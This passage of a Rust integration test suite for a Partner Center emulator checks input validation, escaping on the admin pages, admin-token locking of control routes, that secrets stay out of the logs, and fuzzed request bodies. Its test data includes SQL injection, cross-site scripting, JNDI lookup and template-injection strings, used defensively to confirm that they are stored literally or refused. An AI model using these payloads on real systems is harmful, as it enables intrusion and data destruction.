        assert_eq!(r.status(), 201, "{email}");
        let created: Value = r.json().await.unwrap();
        let read = app.get_json(&format!("/v1/customers/{}", created["id"].as_str().unwrap()), &p.token).await;
        assert_eq!(read["billingProfile"]["email"], email);
    }
    let agreements = app.get_json(&format!("/v1/customers/{id}/agreements?agreementType=*"), &p.token).await;
    let stored: BTreeSet<&str> = agreements["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["primaryContact"]["email"].as_str().unwrap())
        .collect();
    assert_eq!(stored, valid.into_iter().collect());
    let outbox = app.control_json(Method::GET, &format!("/_emulator/outbox?customerId={id}"), None).await;
    assert_eq!(outbox["totalCount"], valid.len());
    for email in invalid {
        let r = app.confirm(&p.token, id, &confirmation("Ana", email, "2025-01-01T00:00:00Z")).await;
        assert_refused(r, "primaryContact.email:", email).await;
        let mut body = customer_body(&unique("em"));
        body["billingProfile"]["email"] = json!(email);
        assert_refused(app.post("/v1/customers", &p.token, &body).await, "billingProfile.email:", email).await;
    }
}

/// Lengths, real NULs and whitespace: the documented limits, each a clear 400.
#[tokio::test]
async fn limits_on_text_are_clear_400s() {
    let app = TestApp::spawn().await;
    let p = app.persona("DirectBill").await;
    let c = app.create_customer(&p.token, &unique("limits")).await;
    let id = c["id"].as_str().unwrap();
    // names: at most 256 characters (characters, not bytes)
    let emoji_256 = "👨\u{200D}👩".repeat(85) + "é";
    assert_eq!(emoji_256.chars().count(), 256);
    let r = app.confirm(&p.token, id, &confirmation(&emoji_256, "ana@contoso.example", "2025-01-01T00:00:00Z")).await;
    assert_eq!(r.status(), 201);
    assert_eq!(r.json::<Value>().await.unwrap()["primaryContact"]["firstName"], emoji_256.as_str());
    let too_long = format!("{emoji_256}x");
    let r = app.confirm(&p.token, id, &confirmation(&too_long, "ana@contoso.example", "2025-01-01T00:00:00Z")).await;
    assert_refused(r, "primaryContact.firstName:", "257 characters").await;
    // free-text customer fields hold long text exactly (the body limit is the bound)
    let long = format!("{}'; DROP TABLE customers;--", "\u{05D0}\\".repeat(4000));
    let mut body = full_customer_body(&unique("long"));
    set(&mut body, "/billingProfile/defaultAddress/addressLine2", &long);
    let r = app.post("/v1/customers", &p.token, &body).await;
    assert_eq!(r.status(), 201);
    let created: Value = r.json().await.unwrap();
    let read = app.get_json(&format!("/v1/customers/{}", created["id"].as_str().unwrap()), &p.token).await;
    assert_eq!(read["billingProfile"]["defaultAddress"]["addressLine2"], long.as_str());
    // a real NUL is refused everywhere (PostgreSQL cannot store it; both backends answer alike)
    for field in CUSTOMER_TEXT_FIELDS {
        let mut body = full_customer_body(&unique("nul"));
        set(&mut body, field, "before\u{0}after");
        let e = assert_error(app.post("/v1/customers", &p.token, &body).await, 400, 990401).await;
        assert!(e["data"][0].as_str().unwrap().contains("NUL"), "{field}: {e}");
    }
    let e = assert_error(
        app.confirm(&p.token, id, &confirmation("A\u{0}B", "ana@contoso.example", "2025-01-01T00:00:00Z")).await,
        400,
        990401,
    )
    .await;
    assert!(e["data"][0].as_str().unwrap().contains("NUL"), "{e}");
    // whitespace-only is not a value
    let mut body = full_customer_body(&unique("blank"));
    set(&mut body, "/billingProfile/defaultAddress/city", " \t\u{3000}");
    assert_refused(
        app.post("/v1/customers", &p.token, &body).await,
        "billingProfile.defaultAddress.city:",
        "blank city",
    )
    .await;
}

/// Query filters and headers shaped like injections match only themselves.
#[tokio::test]
async fn injection_shaped_filters_and_headers_match_only_themselves() {
    let app = TestApp::spawn().await;
    let p = app.persona("DirectBill").await;
    let c = app.create_customer(&p.token, &unique("filters")).await;
    let id = c["id"].as_str().unwrap();
    let r = app.confirm(&p.token, id, &confirmation("Ana", "ana@contoso.example", "2025-01-01T00:00:00Z")).await;
    assert_eq!(r.status(), 201);
    let outbox = |query: Vec<(&'static str, String)>| {
        let app = &app;
        async move {
            let r = app.request(Method::GET, "/_emulator/outbox", None).query(&query).send().await.unwrap();
            assert_eq!(r.status(), 200, "{query:?}");
            r.json::<Value>().await.unwrap()["totalCount"].as_u64().unwrap()
        }
    };
    // controls: the real values find the email
    assert_eq!(outbox(vec![("to", "ana@contoso.example".into())]).await, 1);
    assert_eq!(outbox(vec![("customerId", id.to_string())]).await, 1);
    assert_eq!(outbox(vec![("partnerTenantId", p.tenant_id.clone())]).await, 1);
    for s in INJECTIONS.iter().copied().chain(["%", "_", "*", "ana@contoso.example' OR '1'='1", "' OR ''='"]) {
        for name in ["to", "customerId", "partnerTenantId"] {
            assert_eq!(outbox(vec![(name, s.to_string())]).await, 0, "{name}={s:?}");
        }
        if s == "*" {
            continue; // `*` is the documented "every type"
        }
        let r = app
            .request(Method::GET, "/v1/agreements", Some(&p.token))
            .query(&[("agreementType", s)])
            .send()
            .await
            .unwrap();
        let e = assert_error(r, 400, 990410).await;
        assert!(e["description"].as_str().unwrap().contains(s.trim()), "{s:?}: {e}");
    }
    // MS-CorrelationId shaped like an injection is echoed and found by exactly itself
    for s in ["' OR 1=1 --", "\"; DROP TABLE requests;--", "${jndi:ldap://x/a}", "%_%"] {
        let r = app
            .request(Method::GET, "/v1/agreements", Some(&p.token))
            .header("MS-CorrelationId", s)
            .send()
            .await
            .unwrap();
        assert_eq!(r.headers()["ms-correlationid"].to_str().unwrap(), s);
        let r =
            app.request(Method::GET, "/_emulator/requests", None).query(&[("correlationId", s)]).send().await.unwrap();
        let found: Value = r.json().await.unwrap();
        assert_eq!(found["totalCount"], 1, "{s:?}: {found}");
        assert_eq!(found["items"][0]["correlationId"], s);
    }
    // nothing was dropped
    assert_eq!(app.get_json("/v1/customers", &p.token).await["totalCount"], 1);
}

/// Names shaped like HTML are escaped on the admin-center pages, and a password shaped like an
/// injection (a seed file may choose one) signs in exactly.
#[tokio::test]
async fn admin_center_pages_escape_injected_names_and_passwords_match_exactly() {
    let app = TestApp::spawn().await;
    let script = "<script>alert(\"pce\")</script>";
    let attribute = "\"><img src=x onerror=alert(1)>";
    let password = "'; DROP TABLE customers;-- ${jndi:x} {{7*7}} \u{202E}é";
    let seed = json!({
        "partners": [{"key": "p", "name": script, "partnerType": "DirectBill"}],
        "customers": [{"key": "c", "partner": "p", "domain": unique("escape"), "companyName": attribute, "password": password}],
        "agreements": [{"customer": "c", "partner": "p", "firstName": script, "lastName": attribute, "email": "a@contoso.example", "dateAgreed": "2025-01-01T00:00:00Z"}],
    });
    let r = app.post_seed("application/json", seed.to_string()).await;
    assert_eq!(r.status(), 201);
    let summary: Value = r.json().await.unwrap();
    let user = summary["credentials"]["c"]["userName"].as_str().unwrap().to_string();
    assert_eq!(summary["credentials"]["c"]["password"], password);
    let partner_id = summary["ids"]["p"].as_str().unwrap().to_string();

    // near misses of the password are refused
    for wrong in [password.trim_end_matches('é'), &format!("{password} "), &password.to_uppercase()] {
        let http =
            reqwest::Client::builder().cookie_store(true).redirect(reqwest::redirect::Policy::none()).build().unwrap();
        let page = http.get(app.url("/AdminPortal/SignIn")).send().await.unwrap().text().await.unwrap();
        let marker = "name=\"csrf\" value=\"";
        let start = page.find(marker).unwrap() + marker.len();
        let csrf = &page[start..start + page[start..].find('"').unwrap()];
        let r = http
            .post(app.url("/AdminPortal/SignIn"))
            .form(&[
                ("csrf", csrf),
                ("returnUrl", "/AdminPortal/Home"),
                ("userName", user.as_str()),
                ("password", wrong),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 401, "{wrong:?}");
    }
    let http = admin_center_session(&app, &user, password).await;
    for path in [
        "/AdminPortal/Home".to_string(),
        "/AdminPortal/Home?ref=/BillingAccounts/agreement".to_string(),
        "/AdminPortal/Partners".to_string(),
        format!("/AdminPortal/Partners/{partner_id}"),
    ] {
        let r = http.get(app.url(&path)).send().await.unwrap();
        assert_eq!(r.status(), 200, "{path}");
        let html = r.text().await.unwrap();
        assert!(!html.contains("<script>alert") && !html.contains("<img src=x"), "{path} is not escaped: {html}");
        let escaped = [
            "&lt;script&gt;alert(&quot;pce&quot;)&lt;/script&gt;",
            "&lt;script&gt;alert(\"pce\")&lt;/script&gt;",
            "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
        ];
        assert!(escaped.iter().any(|e| html.contains(e)), "{path} shows neither name escaped: {html}");
    }
}

/// Two different contacts are two confirmations, whatever characters their names hold: the
/// duplicate rule compares each field, so moving a character from one field to the next must
/// not make a different person "the same".
#[tokio::test]
async fn contacts_differing_only_in_where_a_separator_falls_are_different() {
    let app = TestApp::spawn().await;
    let p = app.persona("DirectBill").await;
    let c = app.create_customer(&p.token, &unique("separator")).await;
    let id = c["id"].as_str().unwrap();
    let contact = |first: &str, last: &str| {
        json!({"primaryContact": {"firstName": first, "lastName": last, "email": "ana@contoso.example"},
               "templateId": MCA_TEMPLATE, "dateAgreed": "2025-01-01T00:00:00Z"})
    };
    assert_eq!(app.confirm(&p.token, id, &contact("Ana\u{1f}Lee", "Bowen")).await.status(), 201);
    let r = app.confirm(&p.token, id, &contact("Ana", "Lee\u{1f}Bowen")).await;
    assert_eq!(r.status(), 201, "a different contact was taken for a duplicate: {}", r.text().await.unwrap());
}

// ---------------------------------------------------------------------------------------------
// The control plane behind an admin token
// ---------------------------------------------------------------------------------------------

/// With `PCE_ADMIN_TOKEN` set, every `/_emulator` route of the route table (so routes added
/// later are covered too) answers 401/990432 to a missing or wrong token, changes nothing, and
/// works with the right one; health and readiness stay open; `/v1`, document links and the
/// admin center never need it.
#[tokio::test]
async fn the_control_plane_is_locked_on_every_route_when_an_admin_token_is_set() {
    let admin = format!("admin-{}", uuid::Uuid::new_v4().simple());
    let app = TestApp::spawn_with(&["--admin-token", &admin]).await;
    let authorized = |method: Method, path: &str, body: Option<Value>| {
        let mut r = app.request(method, path, Some(&admin));
        if let Some(b) = body {
            r = r.json(&b);
        }
        async move { r.send().await.unwrap() }
    };
    // state set up with the token
    let r =
        authorized(Method::POST, "/_emulator/partners", Some(json!({"name": "Owner", "partnerType": "DirectBill"})))
            .await;
    assert_eq!(r.status(), 201);
    let tenant = r.json::<Value>().await.unwrap()["tenantId"].as_str().unwrap().to_string();
    let r = authorized(
        Method::POST,
        "/_emulator/tokens",
        Some(json!({"partnerTenantId": tenant, "roles": ["AdminAgent"]})),
    )
    .await;
    let jwt = r.json::<Value>().await.unwrap()["access_token"].as_str().unwrap().to_string();
    let c = app.create_customer(&jwt, &unique("locked")).await;
    let customer = c["id"].as_str().unwrap().to_string();
    let r = app.confirm(&jwt, &customer, &confirmation("Ana", "ana@contoso.example", "2025-01-01T00:00:00Z")).await;
    assert_eq!(r.status(), 201);
    let frozen = json!({"now": "2026-03-01T12:00:00Z", "frozen": true});
    assert_eq!(authorized(Method::PUT, "/_emulator/clock", Some(frozen)).await.status(), 200);

    let intruder = uuid::Uuid::new_v4().to_string();
    let intruder_seeded = uuid::Uuid::new_v4().to_string();
    let routes: Vec<(Method, String, Option<Value>)> = partner_center_emulator::http::route_table()
        .into_iter()
        .filter(|(_, path)| path.starts_with("/_emulator"))
        .map(|(method, path)| {
            let method: Method = method.parse().unwrap();
            let concrete = path.replace("{tenant_id}", &tenant).replace("{customer_id}", &customer);
            // bodies that would change something if they got through
            let body = match (method.as_str(), path) {
                ("POST", "/_emulator/partners") => {
                    Some(json!({"name": "Intruder", "partnerType": "DirectBill", "tenantId": intruder}))
                }
                ("POST", "/_emulator/tokens") => Some(json!({"partnerTenantId": tenant, "roles": ["AdminAgent"]})),
                ("PUT", "/_emulator/clock") => Some(json!({"now": "2030-01-01T00:00:00Z", "frozen": true})),
                ("POST", "/_emulator/clock/advance") => Some(json!({"seconds": 86400})),
                ("POST", "/_emulator/customers/{customer_id}/direct-acceptance") => {
                    Some(json!({"firstName": "Intruder", "lastName": "X", "email": "x@evil.example"}))
                }
                ("POST", "/_emulator/seed") => Some(json!({"partners": [
                    {"key": "i", "name": "Intruder", "partnerType": "DirectBill", "tenantId": intruder_seeded}]})),
                ("POST", _) | ("PUT", _) => Some(json!({})),
                _ => None,
            };
            (method, concrete, body)
        })
        .collect();
    assert!(routes.len() >= 15, "the route table lists the control plane: {routes:?}");

    let b64_basic = base64::engine::general_purpose::STANDARD.encode(format!("admin:{admin}"));
    let wrong: Vec<(&str, Option<String>)> = vec![
        ("no Authorization", None),
        ("another token", Some("Bearer wrong".into())),
        ("the token with a suffix", Some(format!("Bearer {admin}x"))),
        ("a prefix of the token", Some(format!("Bearer {}", &admin[..admin.len() - 1]))),
        ("the token in upper case", Some(format!("Bearer {}", admin.to_uppercase()))),
        ("Basic scheme", Some(format!("Basic {admin}"))),
        ("Basic credentials", Some(format!("Basic {b64_basic}"))),
        ("no scheme", Some(admin.clone())),
        ("an empty bearer", Some("Bearer ".into())),
        ("a partner's access token", Some(format!("Bearer {jwt}"))),
    ];
    for (method, path, body) in &routes {
        let open = path == "/_emulator/health" || path == "/_emulator/ready";
        for (what, authorization) in &wrong {
            let mut r = app.request(method.clone(), path, None);
            if let Some(a) = authorization {
                r = r.header("authorization", a);
            }
            if let Some(b) = body {
                r = r.json(b);
            }
            let r = r.send().await.unwrap();
            if open {
                assert_eq!(r.status(), 200, "{method} {path} with {what}");
                continue;
            }
            assert_eq!(r.status(), 401, "{method} {path} with {what}");
            assert!(r.headers()["www-authenticate"].to_str().unwrap().starts_with("Bearer"), "{method} {path}");
            assert_error(r, 401, 990432).await;
        }
        // the token in the query string is not the token
        let r = app.request(method.clone(), &format!("{path}?access_token={admin}"), None).send().await.unwrap();
        assert_eq!(r.status(), if open { 200 } else { 401 }, "{method} {path}?access_token=");
    }
    // nothing changed: the partner, customer, clock, outbox and journal are as they were
    let get = |path: String| authorized(Method::GET, &path, None);
    assert_eq!(get(format!("/_emulator/partners/{tenant}")).await.status(), 200);
    assert_error(get(format!("/_emulator/partners/{intruder}")).await, 404, 990430).await;
    assert_error(get(format!("/_emulator/partners/{intruder_seeded}")).await, 404, 990430).await;
    let clock: Value = get("/_emulator/clock".into()).await.json().await.unwrap();
    assert_eq!(clock["now"], "2026-03-01T12:00:00.000Z");
    let outbox: Value = get("/_emulator/outbox?includePending=true".into()).await.json().await.unwrap();
    assert_eq!(outbox["totalCount"], 1);
    let status =
        app.get_json(&format!("/v1/customers/{customer}/directSignedMicrosoftCustomerAgreementStatus"), &jwt).await;
    assert_eq!(status["isSigned"], false);
    let journal: Value = get("/_emulator/requests".into()).await.json().await.unwrap();
    assert!(journal["totalCount"].as_u64().unwrap() > 0);
    assert_eq!(app.get_json("/v1/customers", &jwt).await["totalCount"], 1);

    // /v1, document links and the admin center need no admin token
    let doc = app.get_json(&format!("/v1/agreementtemplates/{MCA_TEMPLATE}/document"), &jwt).await;
    let download = doc["downloadUri"].as_str().unwrap();
    assert_eq!(app.http.get(download).send().await.unwrap().status(), 200);
    assert_eq!(app.http.get(app.url("/AdminPortal/SignIn")).send().await.unwrap().status(), 200);

    // the right token opens every route (whatever each then answers)
    for (method, path, body) in routes {
        let r = authorized(method.clone(), &path, body).await;
        let status = r.status();
        let text = r.text().await.unwrap();
        assert_ne!(status, 401, "{method} {path} with the admin token: {text}");
        let code = serde_json::from_str::<Value>(&text).ok().map(|v| v["code"].clone());
        assert_ne!(code, Some(json!(990432)), "{method} {path}: {text}");
    }
}

// ---------------------------------------------------------------------------------------------
// No secret in the logs
// ---------------------------------------------------------------------------------------------

/// The emulator binary as a child process, its stdout and stderr captured.
struct Emulator {
    child: std::process::Child,
    output: std::sync::Arc<std::sync::Mutex<Vec<u8>>>,
    readers: Vec<std::thread::JoinHandle<()>>,
    base: String,
}

impl Emulator {
    fn start(args: &[&str], env: &[(&str, &str)]) -> Emulator {
        use std::io::Read;
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_partner-center-emulator"))
            .args(args)
            .env_remove("PCE_ADMIN_TOKEN")
            .env_remove("PCE_TOKEN_SIGNING_KEY")
            .envs(env.iter().copied())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("start the emulator binary");
        let output = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let mut readers = Vec::new();
        let streams: [Box<dyn Read + Send>; 2] =
            [Box::new(child.stdout.take().unwrap()), Box::new(child.stderr.take().unwrap())];
        for mut stream in streams {
            let output = output.clone();
            readers.push(std::thread::spawn(move || {
                let mut buf = [0u8; 8192];
                while let Ok(n) = stream.read(&mut buf) {
                    if n == 0 {
                        break;
                    }
                    output.lock().unwrap().extend_from_slice(&buf[..n]);
                }
            }));
        }
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
        let base = loop {
            let text = strip_ansi(&String::from_utf8_lossy(&output.lock().unwrap()));
            if let Some(line) = text.lines().find(|l| l.contains("emulator listening")) {
                let at = line.find("127.0.0.1:").expect("listening address in the log line");
                let port: String = line[at + 10..].chars().take_while(char::is_ascii_digit).collect();
                break format!("http://127.0.0.1:{port}");
            }
            if let Some(status) = child.try_wait().unwrap() {
                panic!("the emulator exited ({status}) before listening: {text}");
            }
            assert!(std::time::Instant::now() < deadline, "the emulator did not start: {text}");
            std::thread::sleep(std::time::Duration::from_millis(50));
        };
        Emulator { child, output, readers, base }
    }

    /// SIGTERM, wait for the drain, and everything it wrote (ANSI colours removed).
    fn stop(mut self) -> String {
        let pid = self.child.id().to_string();
        let _ = std::process::Command::new("kill").args(["-TERM", &pid]).status();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(15);
        while self.child.try_wait().unwrap().is_none() {
            if std::time::Instant::now() > deadline {
                let _ = self.child.kill();
                let _ = self.child.wait();
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        for reader in self.readers.drain(..) {
            let _ = reader.join();
        }
        let bytes = self.output.lock().unwrap().clone();
        strip_ansi(&String::from_utf8_lossy(&bytes))
    }
}

fn strip_ansi(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\u{1b}' && chars.peek() == Some(&'[') {
            chars.next();
            for c in chars.by_ref() {
                if c.is_ascii_alphabetic() {
                    break;
                }
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Drive every kind of request that carries a secret, then check the secrets are nowhere in
/// what the process wrote (and nowhere in the request journal). Returns the secrets checked.
async fn drive_requests_with_secrets(base: &str, admin: &str, marker: &str) -> Vec<(String, String)> {
    let mut secrets: Vec<(String, String)> = Vec::new();
    let http = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let url = |p: &str| format!("{base}{p}");
    let admin_call = |method: Method, path: &str, body: Value| {
        http.request(method, url(path)).bearer_auth(admin).header("MS-CorrelationId", marker).json(&body).send()
    };
    // a wrong admin token, refused
    let wrong_admin = format!("wrong-admin-{}", uuid::Uuid::new_v4().simple());
    secrets.push(("a wrong admin token".into(), wrong_admin.clone()));
    let r = http.get(url("/_emulator/clock")).bearer_auth(&wrong_admin).send().await.unwrap();
    assert_eq!(r.status(), 401);

    let r =
        admin_call(Method::POST, "/_emulator/partners", json!({"name": "Log Partner", "partnerType": "DirectBill"}))
            .await
            .unwrap();
    assert_eq!(r.status(), 201);
    let tenant = r.json::<Value>().await.unwrap()["tenantId"].as_str().unwrap().to_string();
    let r = admin_call(Method::POST, "/_emulator/tokens", json!({"partnerTenantId": tenant, "roles": ["AdminAgent"]}))
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let token = r.json::<Value>().await.unwrap()["access_token"].as_str().unwrap().to_string();
    secrets.push(("the bearer token".into(), token.clone()));
    secrets.push(("the bearer token's signature".into(), token.rsplit('.').next().unwrap().to_string()));

    // bearer tokens: a good one, a forged one, and one in a malformed header
    let v1 = |path: &str, t: &str| http.get(url(path)).bearer_auth(t).header("MS-CorrelationId", marker).send();
    assert_eq!(v1("/v1/agreements", &token).await.unwrap().status(), 200);
    let forged = sign(&claims_of(&token), "not-the-key", jsonwebtoken::Algorithm::HS256);
    secrets.push(("a forged token's signature".into(), forged.rsplit('.').next().unwrap().to_string()));
    assert_eq!(v1("/v1/agreements", &forged).await.unwrap().status(), 401);
    let r = http.get(url("/v1/agreements")).header("authorization", format!("Token {token}")).send().await.unwrap();
    assert_eq!(r.status(), 401);

    // a customer creation returns a password; a retry with the same MS-RequestId issues another
    let request_id = uuid::Uuid::new_v4().to_string();
    let mut passwords = Vec::new();
    for _ in 0..2 {
        let r = http
            .post(url("/v1/customers"))
            .bearer_auth(&token)
            .header("MS-RequestId", &request_id)
            .header("MS-CorrelationId", marker)
            .json(&customer_body(&unique("logs")))
            .send()
            .await
            .unwrap();
        let status = r.status().as_u16();
        let body: Value = r.json().await.unwrap();
        assert!(status == 201 || status == 409, "create customer: {status} {body}");
        if let Some(p) = body["userCredentials"]["password"].as_str() {
            passwords.push((body["userCredentials"]["userName"].as_str().unwrap().to_string(), p.to_string()));
        }
    }
    assert!(!passwords.is_empty());
    for (_, p) in &passwords {
        secrets.push(("a customer's generated password".into(), p.clone()));
    }
    // a seed that chooses a password
    let seed_password = format!("Seed-Secret-{}!", uuid::Uuid::new_v4().simple());
    secrets.push(("a seed file's password".into(), seed_password.clone()));
    let seed = json!({"partners": [{"key": "p", "name": "Seeded", "partnerType": "DirectBill"}],
                      "customers": [{"key": "c", "partner": "p", "domain": unique("seedlog"), "password": seed_password}]});
    let r = http
        .post(url("/_emulator/seed"))
        .bearer_auth(admin)
        .header("content-type", "application/json")
        .body(seed.to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 201);

    // admin-center sign-ins: a wrong password, then the right one; the CSRF token and the session
    let (user, password) = passwords.last().unwrap().clone();
    let visitor = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let r = visitor.get(url("/AdminPortal/SignIn")).send().await.unwrap();
    let csrf_cookie = r
        .headers()
        .get_all("set-cookie")
        .iter()
        .map(|c| c.to_str().unwrap().split(';').next().unwrap().to_string())
        .find(|c| !c.starts_with("pce_session="))
        .expect("sign-in CSRF cookie");
    let page = r.text().await.unwrap();
    let marker_field = "name=\"csrf\" value=\"";
    let start = page.find(marker_field).unwrap() + marker_field.len();
    let csrf = page[start..start + page[start..].find('"').unwrap()].to_string();
    secrets.push(("the sign-in CSRF token".into(), csrf.clone()));
    let wrong_password = format!("Wrong-Password-{}", uuid::Uuid::new_v4().simple());
    secrets.push(("a wrong sign-in password".into(), wrong_password.clone()));
    for (attempt, expected) in [(wrong_password.as_str(), 401), (password.as_str(), 303)] {
        let r = visitor
            .post(url("/AdminPortal/SignIn"))
            .header("cookie", &csrf_cookie)
            .form(&[
                ("csrf", csrf.as_str()),
                ("returnUrl", "/AdminPortal/Home"),
                ("userName", &user),
                ("password", attempt),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), expected, "sign-in");
        if expected == 303 {
            let session = r
                .headers()
                .get_all("set-cookie")
                .iter()
                .map(|c| c.to_str().unwrap().split(';').next().unwrap().to_string())
                .find(|c| c.starts_with("pce_session="))
                .expect("session cookie");
            let value = session.trim_start_matches("pce_session=").to_string();
            secrets.push(("the admin-center session".into(), value));
            let r = visitor.get(url("/AdminPortal/Home")).header("cookie", &session).send().await.unwrap();
            assert_eq!(r.status(), 200);
        }
    }
    let r = visitor
        .post(url("/AdminPortal/SignIn"))
        .header("cookie", &csrf_cookie)
        .form(&[
            ("csrf", csrf.as_str()),
            ("userName", "admin@seedlog.onmicrosoft.com"),
            ("password", seed_password.as_str()),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401, "unknown user");

    // the journal never records them either
    let journal = http.get(url("/_emulator/requests")).bearer_auth(admin).send().await.unwrap().text().await.unwrap();
    assert!(journal.contains("/v1/customers"), "the journal recorded the requests: {journal}");
    for (what, secret) in &secrets {
        assert!(!journal.contains(secret.as_str()), "{what} is in the request journal");
    }
    secrets
}

async fn no_secret_in_logs(log_format: &str, rust_log: &str) {
    let admin = format!("admin-secret-{}", uuid::Uuid::new_v4().simple());
    let signing_key = format!("signing-secret-{}", uuid::Uuid::new_v4().simple());
    let marker = format!("log-probe-{}", uuid::Uuid::new_v4().simple());
    let mut database_url = fresh_database_url().await;
    let mut secrets =
        vec![("the admin token".to_string(), admin.clone()), ("the signing key".into(), signing_key.clone())];
    if database_url.starts_with("postgres://postgres@") {
        // trust authentication ignores it, so it can be any secret
        let db_password = format!("db-secret-{}", uuid::Uuid::new_v4().simple());
        database_url = database_url.replacen("postgres://postgres@", &format!("postgres://postgres:{db_password}@"), 1);
        secrets.push(("the database password".into(), db_password));
    }
    let emulator = Emulator::start(
        &["--listen", "127.0.0.1:0", "--database-url", &database_url],
        &[
            ("RUST_LOG", rust_log),
            ("PCE_LOG_FORMAT", log_format),
            ("PCE_ADMIN_TOKEN", &admin),
            ("PCE_TOKEN_SIGNING_KEY", &signing_key),
        ],
    );
    let driven = drive_requests_with_secrets(&emulator.base, &admin, &marker).await;
    let logs = emulator.stop();
    secrets.extend(driven);

    // the capture is real: requests and their correlation ids are in it
    assert!(logs.contains(&marker), "the requests' correlation id is not in the logs:\n{logs}");
    assert!(logs.matches("request finished").count() >= 15, "request lines missing:\n{logs}");
    if log_format == "json" {
        for line in logs.lines().filter(|l| l.starts_with('{')) {
            serde_json::from_str::<Value>(line).unwrap_or_else(|e| panic!("not a JSON line ({e}): {line}"));
        }
    }
    for (what, secret) in &secrets {
        assert!(secret.len() >= 16, "{what} is long enough to grep for");
        if let Some(line) = logs.lines().find(|l| l.contains(secret.as_str())) {
            panic!("{what} is in the {log_format} logs (RUST_LOG={rust_log}): {line}");
        }
    }
}

/// The binary at `RUST_LOG=trace` with JSON lines, and at `debug` with text: bearer tokens (good,
/// forged, malformed), the admin token (right and wrong), the signing key, generated and seeded
/// customer passwords, sign-in passwords (right and wrong), the CSRF token, the session and the
/// database password never appear in what it writes.
#[tokio::test]
async fn no_token_or_password_is_ever_logged() {
    no_secret_in_logs("json", "trace").await;
    no_secret_in_logs("text", "debug").await;
}

// ---------------------------------------------------------------------------------------------
// Bodies fuzzed over HTTP
// ---------------------------------------------------------------------------------------------

#[derive(Debug, Clone)]
enum Edit {
    Set(Value),
    Remove,
    Null,
    PascalCase,
}

#[derive(Debug, Clone)]
enum FuzzBody {
    Bytes(Vec<u8>),
    Json(Value),
    /// A valid body with edits at (member index, edit).
    Edited(Vec<(usize, Edit)>),
}

fn fuzz_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(|n| json!(n)),
        (-1e6f64..1e6).prop_map(|f| json!(f)),
        ".{0,12}".prop_map(Value::String),
        proptest::sample::select(INJECTIONS).prop_map(|s| json!(s)),
        Just(json!("2025-01-01T00:00:00Z")),
        Just(json!(MCA_TEMPLATE)),
    ];
    leaf.prop_recursive(3, 24, 4, |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..4).prop_map(Value::Array),
            proptest::collection::vec(("[a-zA-Z]{1,12}", inner), 0..4)
                .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

fn fuzz_body() -> impl Strategy<Value = FuzzBody> {
    let edit = prop_oneof![
        3 => fuzz_json().prop_map(Edit::Set),
        1 => Just(Edit::Remove),
        1 => Just(Edit::Null),
        1 => Just(Edit::PascalCase),
    ];
    prop_oneof![
        1 => proptest::collection::vec(any::<u8>(), 0..64).prop_map(FuzzBody::Bytes),
        1 => fuzz_json().prop_map(FuzzBody::Json),
        4 => proptest::collection::vec((any::<usize>(), edit), 0..4).prop_map(FuzzBody::Edited),
    ]
}

/// Paths (lists of member names) of every member of `v`, depth first.
fn member_paths(v: &Value, prefix: &mut Vec<String>, out: &mut Vec<Vec<String>>) {
    if let Value::Object(map) = v {
        for (k, child) in map {
            prefix.push(k.clone());
            out.push(prefix.clone());
            member_paths(child, prefix, out);
            prefix.pop();
        }
    }
}

fn apply_edit(body: &mut Value, path: &[String], edit: &Edit) {
    let (last, parents) = path.split_last().unwrap();
    let mut slot = body;
    for p in parents {
        match slot.get_mut(p) {
            Some(next) => slot = next,
            None => return,
        }
    }
    let Some(map) = slot.as_object_mut() else { return };
    match edit {
        Edit::Set(v) => {
            map.insert(last.clone(), v.clone());
        }
        Edit::Remove => {
            map.remove(last);
        }
        Edit::Null => {
            map.insert(last.clone(), Value::Null);
        }
        Edit::PascalCase => {
            if let Some(v) = map.remove(last) {
                let mut chars = last.chars();
                let pascal =
                    chars.next().map(|c| c.to_ascii_uppercase().to_string() + chars.as_str()).unwrap_or_default();
                map.insert(pascal, v);
            }
        }
    }
}

/// Arbitrary bytes, arbitrary JSON and valid bodies with random edits (members replaced by any
/// JSON, removed, nulled, PascalCased) to every `/v1` POST and the control plane's body routes:
/// never a 5xx; every refusal in the error shape with a documented code; every 201 keeps what
/// was sent.
#[test]
fn fuzzed_bodies_get_a_documented_answer_never_a_5xx() {
    let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
    let app = rt.block_on(TestApp::spawn());
    let (persona, customer) = rt.block_on(async {
        let p = app.persona("DirectBill").await;
        let c = app.create_customer(&p.token, &unique("fuzz")).await;
        let id = c["id"].as_str().unwrap().to_string();
        let r = app.confirm(&p.token, &id, &confirmation("Ana", "ana@contoso.example", "2025-01-01T00:00:00Z")).await;
        assert_eq!(r.status(), 201);
        (p, id)
    });
    let routes: Vec<(&str, String, Value, bool)> = vec![
        ("/v1/customers", "/v1/customers".into(), full_customer_body("fuzzdomain"), true),
        (
            "/v1/customers/{id}/agreements",
            format!("/v1/customers/{customer}/agreements"),
            confirmation("Fuzz", "fuzz@contoso.example", "2025-01-01T00:00:00Z"),
            true,
        ),
        (
            "/v1/customers/{id}/orders",
            format!("/v1/customers/{customer}/orders"),
